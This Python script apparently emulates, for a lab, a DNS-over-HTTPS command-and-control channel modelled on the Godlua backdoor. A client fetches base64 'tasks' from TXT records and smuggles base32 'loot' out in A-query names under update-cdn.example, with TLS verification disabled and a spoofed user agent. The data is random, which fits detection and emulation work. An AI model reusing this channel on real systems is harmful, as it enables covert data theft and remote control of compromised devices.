#!/usr/bin/python3
"""f6-doh-c2: a C2 channel in DNS over HTTPS (RFC 8484, as the Godlua IoT backdoor fetched its C2 records): the
device asks a DoH server on 443 for TXT records of its C2 names (tasks come back base64 in the TXT answer) and
reports by putting base32 data into the names of A queries, POST (application/dns-message) and GET (?dns=)
over a kept-alive HTTPS connection, reconnecting every dozen queries. The resolver on the device is not used.
server (the victim's namespace): argv = server IP CERT KEY
client (the device): argv = client IP QUERIES"""
import base64, os, random, ssl, sys, time
import http.client
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from socketserver import TCPServer


class Quiet(ThreadingHTTPServer):
    """No socket.getfqdn() on bind (HTTPServer's: a reverse lookup the lab has no resolver for)."""
    daemon_threads = True

    def server_bind(self):
        TCPServer.server_bind(self)
        self.server_name, self.server_port = self.server_address[:2]

from dnslib import A, QTYPE, RR, TXT, DNSRecord


class H(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *a):
        pass

    def answer(self, wire):
        q = DNSRecord.parse(wire)
        r = q.reply()
        name = str(q.q.qname)
        if q.q.qtype == QTYPE.TXT:
            task = base64.b64encode(os.urandom(random.randint(40, 160))).decode()
            r.add_answer(RR(name, QTYPE.TXT, rdata=TXT([task[i:i + 200] for i in range(0, len(task), 200)]), ttl=60))
        else:
            r.add_answer(RR(name, QTYPE.A, rdata=A("127.0.0.%d" % random.randint(1, 9)), ttl=60))
        body = r.pack()
        self.send_response(200)
        self.send_header("Content-Type", "application/dns-message")
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Cache-Control", "max-age=60")
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        self.answer(self.rfile.read(int(self.headers.get("Content-Length", 0))))

    def do_GET(self):
        q = self.path.split("dns=", 1)[-1]
        self.answer(base64.urlsafe_b64decode(q + "=" * (-len(q) % 4)))


def server(ip, cert, key):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(cert, key)
    srv = Quiet((ip, 443), H)
    srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
    srv.serve_forever()


def client(ip, queries):
    rnd = random.Random(53)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    bot = os.urandom(4).hex()
    conn = None
    loot = base64.b32encode(os.urandom(600)).decode().lower().rstrip("=")
    for i in range(queries):
        if conn is None or i % 12 == 0:
            if conn:
                conn.close()
            conn = http.client.HTTPSConnection(ip, 443, context=ctx, timeout=5)
        if i % 3 == 0:
            q = DNSRecord.question(f"{bot}.{i}.c.update-cdn.example", "TXT")
        else:
            chunk = loot[(i * 30) % len(loot):][:30] or "x"
            q = DNSRecord.question(f"{chunk}.{bot}.r.update-cdn.example", "A")
        wire = q.pack()
        hdr = {"Accept": "application/dns-message", "User-Agent": "Go-http-client/1.1"}
        try:
            if rnd.random() < 0.5:
                conn.request("POST", "/dns-query", body=wire, headers={**hdr, "Content-Type": "application/dns-message"})
            else:
                conn.request("GET", "/dns-query?dns=" + base64.urlsafe_b64encode(wire).decode().rstrip("="), headers=hdr)
            conn.getresponse().read()
        except (OSError, http.client.HTTPException):
            conn = None
        time.sleep(rnd.uniform(1, 3))


if sys.argv[1] == "server":
    server(sys.argv[2], sys.argv[3], sys.argv[4])
else:
    client(sys.argv[2], int(sys.argv[3]))
